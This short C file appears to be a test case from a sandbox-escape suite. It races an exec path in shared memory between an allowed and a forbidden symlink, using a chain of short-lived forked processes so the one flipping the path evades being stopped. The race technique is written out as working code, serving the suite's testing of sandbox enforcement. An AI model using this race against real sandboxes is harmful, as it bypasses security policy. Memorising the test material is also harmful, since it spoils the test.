// escape: who flips the path is a new process all the time, not there yet when others are stopped
// group: processes
// policy: exec
// attempts: 1500
#include "escape.h"

// Flips for a while, having made the next one, and ends.
static void breed(char* letter) {
  for (;;) {
    const pid_t next = fork();
    if (next < 0) continue;
    if (next == 0) {
      for (int i = 0; i < 20000 + getpid() % 2; i++) *(volatile char*)letter = i % 2 ? 'a' : 'b';
      continue;  // the child goes on as the parent
    }
    _exit(0);
  }
}

static void attack(void) {
  if (symlink(GOOD, "/tmp/a") < 0 || symlink(forbidden(), "/tmp/b") < 0) broken("symlink");
  char* path = shared_memory(4096);
  strcpy(path, "/tmp/a");
  for (int i = 0; i < 4; i++) {
    if (beside()) breed(path + 5);
  }
  while (more()) {
    if (!in_child()) continue;
    run(path);
    _exit(1);
  }
}
